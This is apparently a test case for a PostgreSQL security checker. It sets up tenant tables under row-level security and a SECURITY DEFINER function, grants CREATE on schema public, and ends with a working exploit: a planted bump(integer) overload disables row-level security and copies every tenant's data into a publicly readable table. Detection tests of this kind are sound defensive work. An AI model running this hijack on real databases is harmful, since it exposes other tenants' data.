-- Anybody may create in public, which a definer without a path of its own finds first.
-- object: public.refresh_totals()
-- object: schema:public
-- base: empty
--- setup
CREATE TABLE tenants (id uuid PRIMARY KEY); CREATE TABLE totals (tenant_id uuid PRIMARY KEY REFERENCES tenants, n bigint);
INSERT INTO tenants VALUES ('{A}'), ('{B}'); INSERT INTO totals VALUES ('{A}', 1), ('{B}', 2);
ALTER TABLE tenants ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY; ALTER TABLE totals ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY t ON tenants USING (id = current_setting('app.tenant')::uuid); CREATE POLICY t ON totals USING (tenant_id = current_setting('app.tenant')::uuid);
GRANT SELECT ON tenants, totals TO {app};
CREATE FUNCTION bump(bigint) RETURNS bigint LANGUAGE sql AS 'SELECT $1 + 1';
CREATE FUNCTION refresh_totals() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$ BEGIN UPDATE totals SET n = bump(1) WHERE n < 0; PERFORM bump(1); END $$;
--- leak
GRANT CREATE ON SCHEMA public TO {app};
--- tenant
SELECT set_config('app.tenant', '{tenant}', true);
--- own
SELECT FROM totals;
--- exploit
CREATE FUNCTION public.bump(integer) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER TABLE totals NO FORCE ROW LEVEL SECURITY'; EXECUTE 'CREATE TABLE loot AS SELECT * FROM totals'; EXECUTE 'GRANT SELECT ON loot TO PUBLIC'; RETURN 1; END $$;
SELECT refresh_totals(); SELECT FROM loot WHERE tenant_id = '{B}';
